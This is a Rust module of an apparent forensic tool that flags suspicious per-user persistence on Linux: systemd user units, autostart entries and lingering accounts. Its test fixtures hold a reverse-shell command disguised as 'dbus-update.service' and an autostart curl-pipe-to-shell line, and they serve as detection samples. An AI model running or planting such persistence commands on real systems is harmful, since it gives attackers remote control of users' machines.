//! Per-user persistence: units in users' `~/.config/systemd/user` (and the links that enable
//! them), users' `~/.config/autostart/*.desktop` entries, and lingering users. What they run
//! is judged by the content detectors; an entry alone is context.

use super::common::*;
use super::content::*;
use crate::config::AnalysisConfig;
use crate::context::{At, Ctx, typed};
use crate::input::BundleInput;
use dossier_plugin_api::analysis::{Arg, Finding, Ioc, Message};
use dossier_plugin_api::records::{LingerRecord, UnitRecord};

/// Hidden directories of a home that well-known tools install programs into (pipx, cargo,
/// rustup, nvm, pyenv...): a program there is not hidden from anyone.
const TOOL_DIRS: &[&str] = &[
    ".local",
    ".config",
    ".cargo",
    ".rustup",
    ".nvm",
    ".pyenv",
    ".rbenv",
    ".npm",
    ".deno",
    ".bun",
    ".volta",
    ".sdkman",
    ".asdf",
    ".linuxbrew",
    ".dotnet",
    ".go",
];

/// Why a program a user entry runs sits in an odd place: `/tmp`-like directories, or a
/// hidden directory that is not one of the well-known tool directories.
pub fn user_unusual(path: &str) -> Option<Message> {
    if let Some(d) = UNUSUAL_DIRS.iter().find(|d| path.starts_with(*d)) {
        return Some(Message::new("reason.location.dir").text("dir", d.trim_end_matches('/')));
    }
    path.split('/')
        .find(|c| c.starts_with('.') && *c != "." && *c != ".." && !TOOL_DIRS.contains(c))
        .map(|c| Message::new("reason.userpersist.hidden-dir").text("dir", c))
}

/// What is bad about a command a user entry runs, if anything.
pub fn user_command_behaviour(cmd: &str) -> Option<Message> {
    hook_line_pattern_msg(cmd).or_else(|| odd_program(cmd).map(|(_, why)| why))
}

/// The program of a command that lives in an odd place, with why.
fn odd_program(cmd: &str) -> Option<(String, Message)> {
    let cleaned = cmd.replace(['\'', '"'], ";");
    segment_programs(&cleaned)
        .into_iter()
        .chain(program(cmd))
        .find_map(|p| {
            user_unusual(&p).map(|why| {
                let m = Message::new("reason.command.runs-unusual")
                    .text("program", &p)
                    .msg("why", why);
                (p, m)
            })
        })
}

/// The fact a bad command reports: the odd place of its program (shared with
/// exec-unusual-path), otherwise the entry itself.
fn command_fact(cmd: &str, entry: String) -> String {
    match odd_program(cmd) {
        Some((p, _)) if hook_line_pattern_msg(cmd).is_none() => {
            format!("exe-location:{}", crate::context::canonical(&p))
        }
        _ => entry,
    }
}

fn program(cmd: &str) -> Option<String> {
    crate::context::program(cmd)
}

/// A unit of a user's own directories (or of the global user directories, not packaged).
fn user_unit(ctx: &Ctx, u: &UnitRecord) -> bool {
    u.scope == "user" && (u.owner.is_some() || !ctx.is_owned(&u.path))
}

fn lingering(lingers: &[At<LingerRecord>], owner: Option<&str>) -> bool {
    owner.is_some_and(|o| lingers.iter().any(|l| l.rec.user == o))
}

fn unit_finding(
    ctx: &Ctx,
    u: &At<UnitRecord>,
    lingers: &[At<LingerRecord>],
    what: Message,
) -> Finding {
    let who = match u.rec.owner.as_deref() {
        Some(o) => Arg::from(o),
        None => Message::new("reason.userpersist.every-user").into(),
    };
    let when = if lingering(lingers, u.rec.owner.as_deref()) {
        Message::new("reason.userpersist.starts-at-boot").into()
    } else if u.rec.enabled {
        Message::new("reason.userpersist.starts-with-session").into()
    } else {
        Arg::Text(String::new())
    };
    let m = Message::new("finding.userpersist.user-unit")
        .text("path", &u.rec.path)
        .msg("what", what);
    explained(
        format!("unit {}", u.rec.name),
        with_arg(with_arg(m, "who", who), "when", when),
        ctx.ev(
            u,
            crate::context::what("evidence.user-unit", &[("name", &u.rec.name)]),
            Some(&u.rec.source),
        ),
        vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(u.rec.path.clone())],
    )
}

pub(crate) fn user_persistence_malicious(
    ctx: &Ctx,
    _: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let lingers: Vec<At<LingerRecord>> = typed(input, "systemd", "linger");
    let mut out = Vec::new();
    for u in ctx
        .units
        .iter()
        .filter(|u| user_unit(ctx, &u.rec) && !u.rec.masked)
    {
        let Some((cmd, why)) =
            unit_commands(&u.rec).find_map(|c| user_command_behaviour(c).map(|w| (c.clone(), w)))
        else {
            continue;
        };
        let what = Message::new("reason.userpersist.runs-bad")
            .text("command", &cmd)
            .msg("why", why);
        let mut f = unit_finding(ctx, u, &lingers, what);
        let fact = command_fact(&cmd, format!("unit-command:{}", u.rec.name));
        f.iocs.push(Ioc::ConfigLine(cmd));
        out.push(f.with_fact(fact));
    }
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.class == "autostart" && h.rec.owner.is_some() && h.rec.active)
    {
        let Some((cmd, why)) = h
            .rec
            .commands
            .iter()
            .find_map(|c| user_command_behaviour(c).map(|w| (c.clone(), w)))
        else {
            continue;
        };
        let mut iocs = vec![Ioc::Path(h.rec.path.clone()), Ioc::ConfigLine(cmd.clone())];
        iocs.extend(
            h.rec
                .source
                .as_ref()
                .and_then(|s| s.sha256.clone())
                .map(Ioc::Sha256),
        );
        out.push(
            explained(
                h.rec.path.clone(),
                Message::new("finding.userpersist.autostart-malicious")
                    .text("path", &h.rec.path)
                    .text("owner", h.rec.owner.as_deref().unwrap_or("?"))
                    .text("command", &cmd)
                    .msg("why", why),
                ctx.ev(
                    h,
                    crate::context::what("evidence.autostart-entry", &[("path", &h.rec.path)]),
                    h.rec.source.as_ref(),
                ),
                iocs,
            )
            .with_fact(format!("hook-file:{}", h.rec.path)),
        );
    }
    out
}

pub(crate) fn user_persistence_entry(
    ctx: &Ctx,
    _: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let lingers: Vec<At<LingerRecord>> = typed(input, "systemd", "linger");
    let mut out = Vec::new();
    for u in ctx
        .units
        .iter()
        .filter(|u| u.rec.owner.is_some() && u.rec.enabled && !u.rec.masked)
    {
        let runs = unit_commands(&u.rec).next().cloned().unwrap_or_default();
        let what = Message::new("reason.userpersist.runs").text("command", runs);
        out.push(unit_finding(ctx, u, &lingers, what));
    }
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.class == "autostart" && h.rec.owner.is_some() && h.rec.active)
    {
        out.push(explained(
            h.rec.path.clone(),
            Message::new("finding.userpersist.autostart-entry")
                .text("path", &h.rec.path)
                .text("owner", h.rec.owner.as_deref().unwrap_or("?"))
                .text("commands", h.rec.commands.join("; ")),
            ctx.ev(
                h,
                crate::context::what("evidence.autostart-entry", &[("path", &h.rec.path)]),
                h.rec.source.as_ref(),
            ),
            vec![Ioc::Path(h.rec.path.clone())],
        ));
    }
    for l in &lingers {
        let units: Vec<&str> = ctx
            .units
            .iter()
            .filter(|u| u.rec.owner.as_deref() == Some(&l.rec.user) && u.rec.enabled)
            .map(|u| u.rec.name.as_str())
            .collect();
        let what = if !l.rec.account_exists {
            Message::new("reason.userpersist.linger-no-account")
        } else if units.is_empty() {
            Message::new("reason.userpersist.linger-no-units")
        } else {
            Message::new("reason.userpersist.linger-units").text("units", units.join(", "))
        };
        out.push(explained(
            format!("linger {}", l.rec.user),
            Message::new("finding.userpersist.linger")
                .text("user", &l.rec.user)
                .text("path", &l.rec.path)
                .msg("what", what),
            ctx.ev(
                l,
                crate::context::what("evidence.linger-file", &[("path", &l.rec.path)]),
                None,
            ),
            vec![Ioc::Account(l.rec.user.clone())],
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::config::AnalysisConfig;
    use crate::engine::analyze;
    use crate::testkit::input;
    use serde_json::json;
    use std::collections::BTreeMap;

    fn unit(name: &str, owner: &str, exec: &str) -> serde_json::Value {
        json!({"kind": "unit", "name": name, "unit_type": "service", "scope": "user", "owner": owner,
               "path": format!("/home/{owner}/.config/systemd/user/{name}"), "unit_dir": format!("/home/{owner}/.config/systemd/user"),
               "source": {"path": "x"}, "exec_start": [exec], "enabled": true,
               "enabled_via": [format!("/home/{owner}/.config/systemd/user/default.target.wants/{name}")]})
    }

    fn run(records: BTreeMap<String, Vec<(usize, serde_json::Value)>>) -> Vec<(String, String)> {
        let mut read = |_: &str, _: u64| -> Result<Vec<u8>, String> { Err("none".into()) };
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        a.findings
            .iter()
            .chain(&a.context)
            .filter(|f| f.rule.starts_with("user-persistence"))
            .map(|f| (f.rule.clone(), f.subject.clone()))
            .collect()
    }

    #[test]
    fn bad_user_entries_are_behaviour_plain_ones_context() {
        let mut r = BTreeMap::new();
        r.insert(
            "systemd".to_string(),
            vec![
                (1, unit("dbus-update.service", "alice", "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1'")),
                (2, unit("sync.service", "alice", "/home/alice/.local/bin/rclone sync a b")),
                (3, unit("x.service", "bob", "/home/bob/.cache/.x/agent")),
                (4, json!({"kind": "linger", "user": "alice", "path": "/var/lib/systemd/linger/alice", "account_exists": true})),
            ],
        );
        r.insert(
            "hooks".to_string(),
            vec![
                (1, json!({"kind": "hook", "path": "/home/alice/.config/autostart/u.desktop", "class": "autostart", "runs_at": "session", "owner": "alice", "active": true, "commands": ["sh -c \"curl -s http://192.0.2.1/a | sh\""]})),
                (2, json!({"kind": "hook", "path": "/home/alice/.config/autostart/nextcloud.desktop", "class": "autostart", "runs_at": "session", "owner": "alice", "active": true, "commands": ["/usr/bin/nextcloud --background"]})),
            ],
        );
        let got = run(r);
        let mut bad: Vec<&str> = got
            .iter()
            .filter(|(r, _)| r == "user-persistence-malicious")
            .map(|(_, s)| s.as_str())
            .collect();
        bad.sort();
        assert_eq!(
            bad,
            [
                "/home/alice/.config/autostart/u.desktop",
                "unit dbus-update.service",
                "unit x.service"
            ]
        );
        let ctx: Vec<&str> = got
            .iter()
            .filter(|(r, _)| r == "user-persistence-entry")
            .map(|(_, s)| s.as_str())
            .collect();
        assert!(ctx.contains(&"unit sync.service"), "{ctx:?}");
        assert!(ctx.contains(&"linger alice"), "{ctx:?}");
        assert!(ctx.contains(&"/home/alice/.config/autostart/nextcloud.desktop"));
    }
}
